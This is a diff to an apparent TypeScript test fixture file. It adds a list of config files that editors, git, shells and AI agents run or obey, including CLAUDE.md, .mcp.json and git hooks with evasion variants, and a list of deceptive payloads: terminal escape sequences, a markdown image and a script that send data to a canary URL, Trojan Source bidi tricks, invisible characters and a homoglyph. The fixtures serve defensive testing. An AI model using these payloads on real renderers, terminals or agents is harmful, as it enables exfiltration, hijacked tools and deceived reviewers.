@@ -90,3 +90,34 @@ export const oddNames: readonly string[] = [
   "...",
   "con",
 ];
+
+/** Files that an editor, git, an agent, a shell or a build runs or obeys: in no bulk accept. */
+export const obeyed: readonly string[] = [
+  ".vscode/tasks.json",
+  "sub/.VSCode/launch.json",
+  ".vscode./settings.json",
+  ".cUrSoR/mcp.json",
+  ".mcp.json",
+  "sub/.Claude/settings.local.json",
+  ".gitattributes",
+  ".gitmodules",
+  ".husky/pre-commit",
+  ".github/workflows/x.yml",
+  "CLAUDE.md",
+  ".npmrc",
+  ".envrc",
+  "x.code-workspace",
+  "eslint.config.js",
+  ".bashrc",
+];
+
+/** Texts that deceive whoever reads them drawn as they came, or make a renderer act. */
+export const deceitsWith = (canaryUrl: string): string[] => [
+  "\u001b[2J\u001b]0;title\u0007\u001b]52;c;ZXZpbA==\u0007",
+  `\u001b]8;;${canaryUrl}\u0007click\u001b]8;;\u0007`,
+  `![x](${canaryUrl}/?q=secret) [y](command:workbench.action.terminal.new) <img src="${canaryUrl}/i">`,
+  `<script>fetch("${canaryUrl}")</script><style>@import "${canaryUrl}"</style>`,
+  "if (admin\u202e \u2066// check\u2069\u2066) {",
+  "ad\u200bmin \u{e0041}\u{e0042}",
+  "p\u0430ssword",
+];
